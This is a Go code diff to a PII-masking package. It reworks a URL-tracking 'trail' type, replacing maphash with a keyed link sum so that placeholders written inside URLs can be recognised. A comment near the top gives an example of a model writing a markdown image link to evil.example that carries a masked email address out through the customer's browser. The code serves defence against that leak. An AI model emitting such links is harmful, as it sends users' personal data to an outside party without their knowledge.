@@ -1,9 +1,6 @@
 package mask
 
-import (
-	"hash/maphash"
-	"html"
-)
+import "html"
 
 // trail follows a text byte by byte and knows where a URL is being written. A model that writes
 // ![x](https://evil.example/?q=[EMAIL_1]) would have the customer's browser carry the address away, so
@@ -18,11 +15,11 @@ type trail struct {
 	quote  byte // of a tag: the quote that is open
 	open   byte // the last byte before the present token
 	prev   byte
-	begun  [64]byte     // the present token, as far as it is no URL yet
-	n      int          // bytes in begun
-	url    maphash.Hash // of the present URL, placeholders included as we write them
-	head   short        // the beginning of the destination
-	tag    short        // the name of the tag being opened
+	begun  [64]byte // the present token, as far as it is no URL yet
+	n      int      // bytes in begun
+	url    linkSum  // of the present URL, placeholders included as we write them
+	head   short    // the beginning of the destination
+	tag    short    // the name of the tag being opened
 	entity short
 	before byte // what stood in front of the entity
 }
@@ -57,11 +54,7 @@ func (s *short) String() string {
 	return string(s.b[:s.n])
 }
 
-func newTrail(seed maphash.Seed) trail {
-	var t trail
-	t.url.SetSeed(seed)
-	return t
-}
+func newTrail(key *[32]byte) trail { return trail{url: linkSum{key: key}} }
 
 // inside says whether a placeholder here would become part of a URL. mailto:[EMAIL_1] is none: whoever
 // follows it sees it.
@@ -77,10 +70,10 @@ func (t *trail) inside() bool {
 
 // place takes a placeholder and returns the sum that names this place.
 func (t *trail) place(placeholder string) uint64 {
-	t.url.WriteString(placeholder)
+	t.url.addText(placeholder)
 	t.head.n = len(t.head.b) + 1
 	t.prev = 'x'
-	return t.url.Sum64()
+	return t.url.value()
 }
 
 // feed takes the next byte of the text.
@@ -148,8 +141,8 @@ func (t *trail) stepText(b byte) {
 	t.n++
 	if (b == '/' || b == '\\') && (t.prev == '/' || t.prev == ':') {
 		t.where, t.ends = inURL, closer(t.open)
-		t.url.Reset()
-		t.url.Write(t.begun[:t.n])
+		t.url.reset()
+		t.url.addText(string(t.begun[:t.n]))
 	}
 	t.prev = b
 }
@@ -167,7 +160,7 @@ func (t *trail) openTag(b byte) bool {
 		t.tag.n = 0
 		if loads && b != '>' {
 			t.enter(inTag)
-			t.url.WriteByte(b)
+			t.url.add(b)
 			return true
 		}
 	}
@@ -188,7 +181,7 @@ func (t *trail) stepURL(b byte) {
 		t.leave(b)
 		return
 	}
-	t.url.WriteByte(b)
+	t.url.add(b)
 	t.prev = b
 }
 
@@ -207,7 +200,7 @@ func (t *trail) stepDestination(b byte) {
 		return
 	}
 	t.head.add(b)
-	t.url.WriteByte(b)
+	t.url.add(b)
 }
 
 // stepTag looks for the end of a tag that loads something.
@@ -223,11 +216,11 @@ func (t *trail) stepTag(b byte) {
 		t.leave(b)
 		return
 	}
-	t.url.WriteByte(b)
+	t.url.add(b)
 }
 
 func (t *trail) enter(where place) {
-	t.url.Reset()
+	t.url.reset()
 	t.where, t.depth, t.quote, t.head = where, 0, 0, short{}
 }
 
